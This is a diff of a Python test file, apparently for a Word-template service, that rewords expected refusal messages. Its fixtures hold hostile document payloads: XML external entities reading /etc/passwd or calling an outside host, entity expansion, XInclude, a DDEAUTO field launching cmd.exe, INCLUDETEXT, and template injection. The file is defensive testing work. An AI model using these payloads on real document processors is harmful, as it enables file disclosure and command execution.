@@ -89,13 +89,13 @@ def placeholder(text: str) -> Change:
     return end(BODY, PARAGRAPH.format(text))
 
 
-INSTRUCTIONS = "refused: The template may hold no instruction"
+INSTRUCTIONS = "refused: The template may contain only these placeholders"
 CHANGES: dict[str, tuple[Change, str]] = {
-    "an entity of a file": (begun(BODY, SYSTEM.format("file:///etc/passwd")), "refused: This file declares entities"),
-    "an entity of another host in a header": (begun(EDGE, SYSTEM.format(f"{ADDRESS}/a")), "refused: This file declares entities"),
-    "an entity of entities in the styles": (begun("word/styles.xml", LAUGHS), "refused: This file declares entities"),
-    "a parameter entity in the relations": (begun(LINKS, f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{ADDRESS}/a"> %a;]>'), "refused: This file declares entities"),
-    "a declaration in UTF-16, where nobody looks for it": (more("word/other.xml", (SYSTEM.format("file:///etc/passwd") + "<a>&a;</a>").encode("utf-16")), "refused: A part of this file is not in UTF-8"),
+    "an entity of a file": (begun(BODY, SYSTEM.format("file:///etc/passwd")), "refused: This file declares custom XML entities"),
+    "an entity of another host in a header": (begun(EDGE, SYSTEM.format(f"{ADDRESS}/a")), "refused: This file declares custom XML entities"),
+    "an entity of entities in the styles": (begun("word/styles.xml", LAUGHS), "refused: This file declares custom XML entities"),
+    "a parameter entity in the relations": (begun(LINKS, f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{ADDRESS}/a"> %a;]>'), "refused: This file declares custom XML entities"),
+    "a declaration in UTF-16, where nobody looks for it": (more("word/other.xml", (SYSTEM.format("file:///etc/passwd") + "<a>&a;</a>").encode("utf-16")), "refused: Part of this file is not encoded as UTF-8"),
     "a stylesheet of another host": (begun(BODY, f'<?xml-stylesheet href="{ADDRESS}/a.xsl" type="text/xsl"?>'), "text"),
     "an included file": (placeholder('</w:t></w:r></w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><w:p><w:r><w:t>'), "text"),
     "a template of its own at another host": (more("word/_rels/settings.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{KINDS}/attachedTemplate" Target="{ADDRESS}/a.dotm" TargetMode="External"/></Relationships>'.encode()), "text"),
@@ -104,7 +104,7 @@ CHANGES: dict[str, tuple[Change, str]] = {
     "a frame of another host": (linked("frame", f"{ADDRESS}/a.html"), "text"),
     "a subdocument that is a file of the machine": (linked("subDocument", "file:///etc/passwd"), "text"),
     "a link that is a script": (linked("hyperlink", "javascript:alert(1)"), "text"),
-    "macros": (more("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"MACRO" * 100), "refused: A part of this file is not in UTF-8"),
+    "macros": (more("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"MACRO" * 100), "refused: Part of this file is not encoded as UTF-8"),
     "a field that runs a program": (placeholder(f'</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k {COMMAND}&quot;"/><w:r><w:t>'), "text"),
     "a field that takes in a file": (placeholder('</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/><w:r><w:t>'), "text"),
     "a sum as a placeholder": (placeholder("{{ 191 * 193 }}"), INSTRUCTIONS),
